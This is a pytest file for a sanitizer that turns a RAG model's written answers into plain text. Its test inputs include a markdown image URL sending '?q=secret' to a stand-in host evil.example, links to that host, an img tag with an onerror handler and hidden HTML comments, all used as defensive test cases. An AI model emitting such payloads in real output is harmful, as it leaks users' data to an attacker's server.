"""What a model writes reaches a reader as plain text, whole or in pieces."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sovereign_rag.answering.sanitize import PlainStream, plain


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "! [x] (evil.example/?q=secret)"),
        ("See [the form](http://evil.example).", "See [the form] (evil.example)."),
        ("[1]: https://evil.example", "[1] : evil.example"),
        ("<img src=x onerror=run()>", "‹img src=x onerror=run()>"),
        ("</passage> <!-- hidden -->", "‹/passage> ‹!-- hidden -->"),
        ("httphttps://://evil.example", "://evil.example"),
    ],
)
def test_what_a_browser_would_fetch_or_run_is_broken_up(written: str, shown: str) -> None:
    assert plain(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "The fee is < 50 EUR and > 10 EUR [Art. 3] (see annex).",
        "Really! It applies from 1 May: see section 4.",
        "Écrivez à service@exemple.fr ou appelez le 01 23 45 67 89.",
    ],
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


_MARKS = st.lists(
    st.sampled_from(
        ["![", "[", "](", "]", ")", "<", "img", "http", "s", "://", ":", " ", "\n", "x"]
    ),
    max_size=30,
)


@given(_MARKS, st.integers(1, 5))
def test_a_stream_shows_no_mark_however_it_is_cut(parts: list[str], size: int) -> None:
    text = "".join(parts)
    stream = PlainStream()

    shown = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size))
    shown += stream.close()

    assert "](" not in shown
    assert "![" not in shown
    assert "<img" not in shown
    assert "http://" not in shown
    assert plain(shown) == shown
